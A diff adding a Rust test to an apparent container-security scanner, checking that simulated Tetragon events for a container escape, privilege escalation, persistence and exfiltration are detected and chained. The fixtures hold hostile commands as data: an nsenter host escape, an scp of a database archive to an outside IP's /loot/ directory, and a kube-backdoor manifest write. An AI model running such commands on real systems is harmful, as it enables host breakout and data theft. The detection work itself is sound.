@@ -434,3 +434,83 @@ fn hostile_exports_are_diagnosed_and_the_rest_read() {
     assert_eq!(pids, vec![100, 200], "{pids:?}");
     assert!(rules(b).contains(&"proc.revshell".to_string()), "{:?}", rules(b));
 }
+
+#[test]
+fn escape_persistence_and_exfiltration_seen_by_tetragon_join_the_chain() {
+    let id = cid();
+    let java = tproc(
+        "bm9kZToxMDA=",
+        "bm9kZTo5MA==",
+        100,
+        "/usr/bin/java",
+        "-jar /app/app.jar",
+        "2026-11-27T14:00:00.120Z",
+        &id,
+    );
+    let sh = tproc("c2g=", "bm9kZToxMDA=", 300, "/bin/sh", "-c id", "2026-11-27T14:10:00.000Z", &id);
+    let ev = |n: usize, p: &str, kind: &str, body: &str| {
+        format!(
+            r#"{{"{kind}":{{"process":{p}{body}}},"node_name":"n1","time":"2026-11-27T14:1{n}:00.000Z"}}"#
+        )
+    };
+    let nsenter = tproc(
+        "bnM=",
+        "c2g=",
+        301,
+        "/usr/bin/nsenter",
+        "-t 1 -m -u -i -n sh",
+        "2026-11-27T14:11:00.000Z",
+        &id,
+    );
+    let scp = tproc(
+        "c2Nw",
+        "c2g=",
+        302,
+        "/usr/bin/scp",
+        "/tmp/db.tar.gz root@45.33.32.156:/loot/",
+        "2026-11-27T14:12:00.000Z",
+        &id,
+    );
+    let priv_esc = tproc("eA==", "c2g=", 303, "/tmp/x", "", "2026-11-27T14:13:00.000Z", &id);
+    let lines = [
+        ev(0, &java, "process_exec", ""),
+        ev(0, &sh, "process_exec", &format!(r#","parent":{java}"#)),
+        ev(1, &nsenter, "process_exec", ""),
+        ev(2, &scp, "process_exec", ""),
+        ev(3, &priv_esc, "process_kprobe", r#","function_name":"__x64_sys_setuid","args":[{"int_arg":0}]"#),
+        ev(
+            4,
+            &sh,
+            "process_kprobe",
+            r#","function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/kubernetes/manifests/kube-backdoor.yaml"}},{"int_arg":2}]"#,
+        ),
+    ];
+    let dir = bundle(&[
+        ("web/inspect.json", inspect(&id)),
+        ("tetragon.json", (lines.join("\n") + "\n").into_bytes()),
+    ]);
+    let (v, _) = scan(dir.path());
+    let b = &v["bundles"][0];
+    let r = rules(b);
+    for want in
+        ["sensor.escape.host", "sensor.exfil.archive", "sensor.setuid-root", "sensor.file.persistence-write"]
+    {
+        assert!(r.contains(&want.to_string()), "{want} missing from {r:?}");
+    }
+    let exfil = fact(b, "sensor.exfil.archive");
+    // Folded into the session's fact (java -> sh -> scp); the archive and its destination named.
+    let text = exfil["summary"].as_str().unwrap();
+    assert!(text.contains("/tmp/db.tar.gz") && text.contains("45.33.32.156"), "{exfil:#}");
+    let stages: Vec<&str> =
+        b["chain"].as_array().unwrap().iter().map(|s| s["stage"].as_str().unwrap()).collect();
+    // java ran the shell: that is the way in; what the sensor saw after it are its stages.
+    for want in ["way in", "escape", "persistence"] {
+        assert!(stages.contains(&want), "{want} missing from {stages:?}");
+    }
+    let escape_stage = b["chain"].as_array().unwrap().iter().find(|s| s["stage"] == "escape").unwrap();
+    assert_eq!(escape_stage["rule"], "sensor.escape.host");
+    assert_eq!(escape_stage["when"]["time"], "2026-11-27T14:11:00.000000000Z");
+    let escape = fact(b, "sensor.escape.host");
+    assert_eq!(escape["severity"], "critical");
+    assert_eq!(escape["category"], "privilege-escalation");
+}
